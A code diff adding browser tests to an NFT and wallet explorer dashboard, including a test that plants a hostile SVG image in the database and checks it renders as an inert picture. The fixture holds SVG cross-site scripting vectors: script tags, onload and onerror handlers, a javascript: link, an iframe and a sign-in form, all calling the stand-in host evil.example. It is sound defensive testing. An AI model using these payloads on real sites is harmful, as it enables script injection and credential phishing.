@@ -1,4 +1,5 @@
 import { launchBrowser } from "@portico/browser";
+import { sql } from "kysely";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import {
   type Browser,
@@ -7,6 +8,7 @@ import {
   type OpenedPage,
   type Opening,
   openPage,
+  widthOf,
 } from "./testing/explorerPages.ts";
 import { type ExplorerScene, startExplorerScene } from "./testing/startExplorerScene.ts";
 
@@ -47,6 +49,9 @@ test("a link by a name or in capitals leads to the one link of the same tab; wha
   await page.waitForURL(`**/address/${scene.owner}/nfts`);
   await page.goto(`${scene.dashboard.url}/address/0xnothing`);
   await heading("Not an address");
+  await page.goto(`${scene.dashboard.url}/address/nobody.eth`);
+  await heading("No such name");
+  expect(await page.getByLabel("Address or ENS name").last().inputValue()).toBe("nobody.eth");
   await page.getByRole("link", { name: "Portico" }).click();
   await heading("Look into any wallet");
   expect(new URL(page.url()).pathname).toBe("/explore");
@@ -102,6 +107,81 @@ test("NFTs are found by text", async () => {
   await page.getByRole("searchbox", { name: /^Search name/ }).fill("kitties");
   await page.getByText(/in 1 collection$/).waitFor();
   expect(await page.getByRole("region").getByRole("button").allInnerTexts()).not.toEqual([]);
+  await page.close();
+});
+
+/** Of every kind that could do something in a document. */
+const HOSTILE_DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="40" height="40" onload="document.title='owned'">
+<style>@import "https://evil.example/a.css"; rect { fill: red; background: url(https://evil.example/b.png) }</style>
+<script>document.title = "owned"; fetch("https://evil.example/c")</script><script href="https://evil.example/d.js"/>
+<image href="https://evil.example/e.png" width="9" height="9"/><use href="https://evil.example/f.svg#g"/>
+<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/h" onerror="document.title='owned'"/>
+<iframe src="https://evil.example/i"/><form action="https://evil.example/j"><button>Sign in</button></form></body></foreignObject>
+<a x:href="javascript:document.title='owned'"><rect width="40" height="40"/></a></svg>`;
+
+test("a hostile drawing is a picture and nothing else, opened by itself as well", async () => {
+  const url = `data:image/svg+xml;base64,${Buffer.from(HOSTILE_DRAWING).toString("base64")}`;
+  const list = `${scene.dashboard.url}/explorer/api/v1/user/all_nft_list?id=${scene.owner}&chain_ids=eth`;
+  await expect.poll(async () => (await fetch(list)).text(), { timeout: 30_000 }).toContain("On chain");
+  await sql`update nft set content = ${url} where name = 'On chain'`.execute(scene.db);
+  const fresh = await scene.startDashboard({}); // which has no picture in memory
+  const opened = await openPage(chromium, `${fresh.url}/address/${scene.owner}/nfts?chain=eth`);
+  const { page } = opened;
+  const left: string[] = []; // of what is asked elsewhere, what no policy ended before
+  await page.route(/evil\.example/, (route) => {
+    left.push(route.request().url());
+    return route.abort();
+  });
+  const picture = page.getByRole("button", { name: "On chain" }).first().locator("img");
+  await picture.scrollIntoViewIfNeeded();
+  await expect.poll(() => widthOf(picture)).toBe(40);
+  await expectDecent(opened);
+  const src = (await picture.getAttribute("src")) ?? "";
+  expect((await page.goto(fresh.url + src))?.status()).toBe(404);
+  // a browser that doesn't say what it asks for
+  await page.route(fresh.url + src, async (route) => {
+    const answer = await fetch(fresh.url + src);
+    await route.fulfill({ headers: Object.fromEntries(answer.headers), body: await answer.text() });
+  });
+  await page.goto(fresh.url + src);
+  await page.locator("rect").click({ force: true });
+  await page.mouse.click(20, 20);
+  expect(await page.evaluate<string>("document.contentType")).toBe("image/svg+xml");
+  expect(await page.title()).not.toBe("owned");
+  expect(await page.evaluate<string>("window.origin")).toBe("null");
+  expect(left).toEqual([]);
+  await page.close();
+  await fresh.stop();
+});
+
+test("on a phone the tab that is open is in sight, and what was looked at can be found again", async () => {
+  const opened = await open(`/address/${scene.owner}/approvals`, { width: 360 });
+  const { page } = opened;
+  const tab = page.getByRole("navigation", { name: "Portfolio" }).getByRole("link", { name: "Approvals" });
+  const isInSight = async () => {
+    const { x = -1, width = 0 } = (await tab.boundingBox()) ?? {};
+    return x >= 0 && x + width <= 360;
+  };
+  await expect.poll(isInSight).toBe(true);
+  await page.getByRole("link", { name: "Portico" }).click();
+  const recent = page.getByRole("region", { name: "Looked at before" });
+  await recent.getByRole("link", { name: "owner.eth" }).click();
+  await page.waitForURL(`**/address/${scene.owner}`);
+  await page.getByRole("button", { name: "7 d" }).click();
+  await page.locator(".net-change").getByText("7 d").waitFor();
+  const outside = page.getByRole("link", { name: "On etherscan.io (opens in a new tab)" });
+  expect(await outside.getAttribute("href")).toBe(`https://etherscan.io/address/${scene.owner}`);
+  await page.goto(`${scene.dashboard.url}/explore`);
+  await recent.getByRole("button", { name: "Forget" }).click();
+  await recent.waitFor({ state: "detached" });
+  const scheme = () => page.evaluate<string>("getComputedStyle(document.documentElement).colorScheme");
+  expect(await scheme()).toBe("light");
+  await page.getByRole("button", { name: "Use dark colours" }).click();
+  await page.reload();
+  await page.getByLabel("Chains that are read here").waitFor();
+  expect(await scheme()).toBe("dark");
+  expect(await recent.count()).toBe(0);
+  await expectDecent(opened);
   await page.close();
 });
 
